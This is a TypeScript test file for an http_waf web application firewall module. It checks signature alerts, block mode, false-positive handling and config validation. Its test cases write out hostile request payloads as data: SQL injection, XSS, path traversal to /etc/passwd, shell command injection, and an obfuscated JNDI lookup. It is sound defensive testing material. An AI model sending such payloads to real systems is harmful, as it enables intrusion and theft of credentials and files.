// Each detection of http_waf on a request built for it: the signature id,
// severity and metadata of the alert, the verdict in alert and block mode,
// and the configuration that switches detections and adds patterns.
import { beforeAll, describe, expect, it } from 'vitest';
import { Verdict } from '../../../host/verdict.js';
import { SecuxflowError } from '../../../host/errors.js';
import { SID, bytesOf, request, run, streamItem, waf } from './waf.js';

beforeAll(async () => { await waf(); }, 180_000);

let flow = 1;
async function one(text: string, config?: unknown) {
  const inst = await waf(config);
  return run(inst, [streamItem(flow++, 0, bytesOf(text))]);
}

describe('http_waf detections', () => {
  const cases: [string, string, number, number, string][] = [
    ['SQL injection in a query argument', request('GET', "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"), SID.SQLI, 1, 'query:id'],
    ['SQL injection in a form body', request('POST', '/login', { 'Content-Type': 'application/x-www-form-urlencoded' }, "user=x%27+or+1%3D1--&pw=a"), SID.SQLI, 1, 'body:user'],
    ['SQL injection in a cookie', request('GET', '/', { Cookie: "uid=1' AND SLEEP(5)-- ; theme=dark" }), SID.SQLI, 1, 'cookie:uid'],
    ['XSS with an event handler', request('GET', '/?c=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'), SID.XSS, 2, 'query:c'],
    ['XSS with an entity-encoded javascript: URL', request('GET', '/?c=%3Ca%20href%3D%22%26%23106%3Bavascript%3Aalert(1)%22%3E'), SID.XSS, 2, 'query:c'],
    ['path traversal in the path, double encoded', request('GET', '/static/%252e%252e/%252e%252e/etc/passwd'), SID.TRAVERSAL, 1, 'path'],
    ['path traversal with overlong UTF-8', request('GET', '/dl?f=..%c0%af..%c0%afetc/passwd'), SID.TRAVERSAL, 1, 'query:f'],
    ['command injection with $( )', request('GET', '/ping?h=1.2.3.4%24(id)'), SID.CMDI, 1, 'query:h'],
    ['command injection with a backtick', request('POST', '/run', { 'Content-Type': 'application/x-www-form-urlencoded' }, 'h=%60whoami%60'), SID.CMDI, 1, 'body:h'],
    ['an obfuscated JNDI lookup in a header', request('GET', '/', { 'X-Api-Version': '${${::-j}${lower:N}di:ldap://198.18.0.66/a}' }), SID.JNDI, 1, 'header:X-Api-Version'],
    ['a scanner user agent', request('GET', '/', { 'User-Agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' }), SID.SCANNER, 3, 'header:User-Agent'],
  ];
  for (const [name, text, sid, severity, field] of cases) {
    it(`alerts on ${name}`, async () => {
      const r = await one(text);
      expect(r.verdicts).toEqual([Verdict.CONTINUE]);
      const a = r.alerts.find((x) => x.sigId === sid);
      expect(a, `alerts: ${JSON.stringify(r.alerts)}`).toBeDefined();
      expect(a!.severity).toBe(severity);
      expect(a!.index).toBe(0);
      expect(a!.metadata).toMatchObject({ field, hostname: 'shop.example' });
      expect(typeof (a!.metadata as { value: unknown }).value).toBe('string');
    });
  }

  it('names the SQL fingerprint and its quote context in the alert', async () => {
    const r = await one(request('GET', "/s?q=x'%20or%20'a'%3D'a"));
    expect((r.alerts[0]!.metadata as { detail: string }).detail).toMatch(/^fingerprint s&s.* in '\.\.\.'$/);
  });

  it('leaves ordinary requests alone (no alert, CONTINUE until the response)', async () => {
    const r = await one(request('GET', "/search?q=O%27Reilly+%26+Sons&sort=price_asc"));
    expect(r.alerts).toEqual([]);
    expect(r.verdicts).toEqual([Verdict.CONTINUE]);
  });

  it('does not flag prose and slogans that merely contain shell or SQL words', async () => {
    const inst = await waf(undefined, undefined, { batchCapacity: 16 });
    const phrases = [
      'eat | sleep | code | repeat', 'work; sleep; repeat', 'Tom & Jerry | id badge', 'the `code` cat walks in', 'buy 2, get 1 free; echo dot sale',
      "6' order of ladders", 'kids 3 and up', "Levi's 501 or 505?", 'cats & dogs | ping pong', 'R&D; find talent',
    ];
    const r = run(inst, phrases.map((p, i) => streamItem(900 + i, 0, bytesOf(request('GET', '/s?q=' + encodeURIComponent(p))))));
    expect(r.alerts.map((a) => `${phrases[a.index]} -> ${a.sigId}`)).toEqual([]);
    // while the same commands with arguments are still injections
    const attacks = ['x; sleep 5', 'x | cat /etc/passwd', 'x`cat /etc/hosts`', 'x; id', "x' order by 3--"];
    const a = run(inst, attacks.map((p, i) => streamItem(950 + i, 0, bytesOf(request('GET', '/s?q=' + encodeURIComponent(p))))));
    expect(new Set(a.alerts.map((x) => x.index)).size).toBe(attacks.length);
  });

  it('blocks the flow in block mode, and keeps blocking it', async () => {
    const inst = await waf({ mode: 'block' });
    const r = run(inst, [streamItem(7, 0, bytesOf(request('GET', '/a?f=../../../etc/passwd')))]);
    expect(r.verdicts).toEqual([Verdict.BLOCK_FLOW]);
    expect(r.alerts.map((a) => a.sigId)).toEqual([SID.TRAVERSAL]);
    // the blocked request is still reported as an http event (without a status)
    expect(r.events).toEqual([{ index: 0, kind: 'http', data: expect.objectContaining({ url: '/a?f=../../../etc/passwd', http_method: 'GET' }) }]);
    const again = run(inst, [streamItem(7, 0, bytesOf(request('GET', '/a?f=../../../etc/passwd') + request('GET', '/ok')))]);
    expect(again.verdicts).toEqual([Verdict.BLOCK_FLOW]);
    expect(again.alerts).toEqual([]);
  });

  it('runs only the detections listed in the config', async () => {
    const text = request('GET', "/x?a=1%27%20or%201%3D1--&b=%3Cscript%3E");
    const both = await one(text);
    expect(both.alerts.map((a) => a.sigId).sort()).toEqual([SID.SQLI, SID.XSS]);
    const onlyXss = await one(text, { detections: ['xss'] });
    expect(onlyXss.alerts.map((a) => a.sigId)).toEqual([SID.XSS]);
  });

  it('adds extra patterns with their own sid, severity and message, case-insensitive when asked', async () => {
    const cfg = { extra_patterns: [
      { sid: 1001100, pattern: 'wp-config.php.bak', severity: 2, msg: 'backup config probe' },
      { sid: 1001101, pattern: 'X-Evil', nocase: true },
    ] };
    const r = await one(request('GET', '/wp-config.php.bak'), cfg);
    expect(r.alerts.map((a) => [a.sigId, a.severity, a.message])).toEqual([[1001100, 2, 'backup config probe']]);
    const r2 = await one(request('GET', '/', { 'X-Trace': 'x-EVIL-42' }), cfg);
    expect(r2.alerts.map((a) => [a.sigId, a.severity])).toEqual([[1001101, 2]]);
  });

  it('refuses a bad config with a message naming the field', async () => {
    const bad: [unknown, RegExp][] = [
      [{ mode: 'drop' }, /mode must be "alert" or "block"/],
      [{ body_depth: -1 }, /body_depth/],
      [{ detections: ['sqli', 'csrf'] }, /detections\[1\] must be one of/],
      [{ extra_patterns: [{ sid: 5, pattern: 'x' }] }, /extra_patterns\[0\]\.sid must be an integer 1001100\.\.1001999/],
      [{ extra_patterns: [{ sid: 1001100, pattern: '' }] }, /extra_patterns\[0\]\.pattern/],
      [{ colour: 'blue' }, /unknown field "colour"/],
    ];
    for (const [cfg, why] of bad) {
      const logs: string[] = [];
      const err = await waf(cfg, logs).then(() => null, (e: unknown) => e);
      expect(err).toBeInstanceOf(SecuxflowError);
      expect((err as SecuxflowError).code).toBe('E_MODULE_CONFIG');
      expect(logs.join('\n')).toMatch(why);
    }
  });
});
